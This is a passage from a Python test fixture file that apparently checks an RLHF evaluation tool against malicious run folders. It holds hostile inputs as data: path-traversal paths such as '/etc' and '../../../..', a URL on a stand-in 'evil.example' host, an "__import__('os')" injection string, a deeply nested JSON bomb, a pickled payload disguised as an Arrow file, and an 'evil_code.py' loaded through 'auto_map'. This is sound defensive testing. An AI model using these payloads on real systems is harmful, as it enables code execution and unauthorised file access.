    return use_run(lair, run)


@among(["9" * 60, "٣", "-1", "evil"])
def run_with_an_iteration_called(lair: Lair, name: str) -> Door:
    run = lair.run()
    (run / "iterations" / name).mkdir()
    (run / "checkpoints" / name).mkdir()
    (run / "checkpoints" / name / "manifest.json").write_bytes(b"{}")
    return use_run(lair, run)


@among(["threads", "drifts", "nested"])
def run_with_an_identity_of(lair: Lair, kind: str) -> Door:
    run = lair.run()
    values: dict[str, Any] = {
        "threads": {"identity": {"num_threads": "__import__('os')"}},
        "drifts": {"drifts": [{"iteration": 10**30, "before": {}}, 1]},
        "nested": {"identity": json.loads('{"a":' * 500 + "1" + "}" * 500)},
    }[kind]
    lair.changed(run / "run.json", values)
    return use_run(lair, run)


@among(["/etc", "../../../..", "https://evil.example/run"])
def evaluation_of_a_run_elsewhere(lair: Lair, run: str) -> Door:
    record = {"config": lair.tree(), "identity": {}, "run": run, "num_trained_on": None}
    from rlhf_core.contracts.records import seal

    lair.write("evaluation/evaluation.json", seal(record))
    lair.write("evaluation/prompts.arrow", lair.pickled)

    def door() -> None:
        there = EvaluationFolder.open(lair.folder / "evaluation")
        there.prompts()

    return door


@payload
def bare_model_of_code(lair: Lair) -> Door:
    folder = lair.model()
    lair.write("model/evil_code.py", lair.code)
    lair.changed(folder / "config.json", {"auto_map": AUTO_MAP, "model_type": "evil"})
    return lambda: check_evaluation(Request(str(folder), num_prompts=2), lair.config())
